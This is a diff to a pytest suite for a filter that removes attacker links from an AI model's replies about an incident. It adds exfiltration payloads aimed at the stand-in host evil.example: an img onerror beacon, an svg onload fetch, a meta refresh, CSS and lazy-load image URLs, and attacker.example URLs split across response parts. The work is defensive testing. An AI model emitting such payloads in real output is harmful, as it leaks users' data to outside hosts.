@@ -135,6 +135,13 @@ TO_EVIL = {
     "uppercase-trailing-dot": "[x](HTTPS://EVIL.EXAMPLE./p)",
     "fullwidth-dot": "[x](https://evil\uff0eexample/p)",
     "nested-image-in-link": "[![s](https://evil.example/i.png)](https://status.acme.com/)",
+    "img-onerror-script": "<img src=x onerror=\"this.src='https://evil.example/?d='+document.title\">",
+    "svg-onload-fetch": "<svg onload=\"fetch('https://evil.example/c?d=INC-002')\">",
+    "style-image-set": "<div style=\"background: image-set('https://evil.example/i.png?d=1' 1x)\">",
+    "data-src": '<img class="lazy" data-src="https://evil.example/i.png?d=INC-002">',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/?d=1">',
+    "ipv6-literal": "https://[2001:db8::1]:8443/x?d=INC-002 and https://evil.example",
+    "ipv6-in-markdown": "[report](https://[2001:db8::1]/r?d=INC-002) via evil.example/",
 }
 
 
@@ -209,3 +216,24 @@ def test_every_text_part_the_model_sends_is_guarded_not_only_the_last(seed):
     texts = run(scenario())
     assert texts[-1] == "All clear." and "evil" not in texts[0]
     assert texts[0].startswith("Looking. [image removed")
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        ["Details at https://checkout", ".attacker.example/c?d=INC-002-db-pool"],
+        ["See ww", "w.attacker.example?d=INC-002"],
+        ["![status](https://stats.attac", "ker.example/b.png?i=INC-002)"],
+        ['<img src="https://attacker', '.example/p.png?d=1">', " done."],
+    ],
+    ids=["host-split", "www-split", "image-split", "three-parts"],
+)
+def test_a_url_split_across_text_parts_of_one_response_is_removed(seed, parts):
+    """Each part alone is harmless; joined, as the reader sees them, it is an attacker link."""
+    text, removed = _answer(seed, "How is INC-002?", parts)
+    assert "attacker" not in text and "ker.example" not in text and removed
+
+
+def test_parts_that_need_no_change_stay_as_the_model_sent_them(seed):
+    text, removed = _answer(seed, "How is INC-002?", ["Checkout is ", "degraded."])
+    assert (text, removed) == ("Checkout is degraded.", [])
